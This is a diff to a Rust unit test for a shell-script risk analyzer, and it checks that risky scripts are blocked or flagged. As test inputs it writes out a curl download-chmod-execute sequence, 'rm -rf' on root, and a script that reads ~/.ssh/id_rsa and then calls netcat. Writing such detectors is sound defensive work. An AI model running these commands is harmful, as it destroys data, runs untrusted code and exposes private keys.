@@ -184,10 +184,18 @@ fn facts_fade() {
 #[test]
 fn a_script_is_a_sequence() {
     let here = context(ShellType::Bash, Platform::Linux, "/home/ada/project");
+    let judge = |script: &str| Session::new().assess_script(&Analyzer::new(), script, &here, SafetyLevel::Moderate);
     let script = "# install\ncurl -o /tmp/i https://x.example/i\n\nchmod +x /tmp/i\n/tmp/i\n";
-    let all = Session::new().assess_script(&Analyzer::new(), script, &here, SafetyLevel::Moderate);
-    assert_eq!(all.len(), 3);
-    assert_eq!(all[2].decision(), Decision::Block);
+    let judged = judge(script);
+    assert_eq!(judged.decision(), Decision::Block);
+    let worst = judged.findings().iter().max_by_key(|f| f.risk).unwrap();
+    assert_eq!(script.get(worst.span.clone()).unwrap().trim(), "/tmp/i");
+    // What carries on from line to line, and what only the order shows.
+    assert_eq!(judge("dir=/\nif true; then\n  rm -rf $dir\nfi\n").decision(), Decision::Block);
+    let ordered = judge("cat ~/.ssh/id_rsa\nnc 10.0.0.1 99\n");
+    assert!(ordered.findings().iter().any(|f| f.rule == "secret-then-network"), "{ordered:?}");
+    let other_way = judge("nc 10.0.0.1 99\ncat ~/.ssh/id_rsa\n");
+    assert!(other_way.risk() < ordered.risk());
 }
 
 #[test]
